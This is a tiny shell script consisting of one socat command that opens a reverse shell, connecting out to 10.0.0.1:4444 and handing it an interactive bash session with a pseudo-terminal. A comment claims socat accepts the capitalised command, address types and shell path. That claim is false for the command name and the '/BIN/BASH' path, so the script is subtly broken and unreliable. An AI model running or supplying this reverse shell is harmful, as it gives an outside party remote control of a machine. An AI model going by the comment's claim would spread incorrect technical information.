#!/bin/sh
# address types and shell path in capitals: socat takes them in any case
SOCAT TCP4:10.0.0.1:4444 EXEC:/BIN/BASH,pty,stderr,setsid
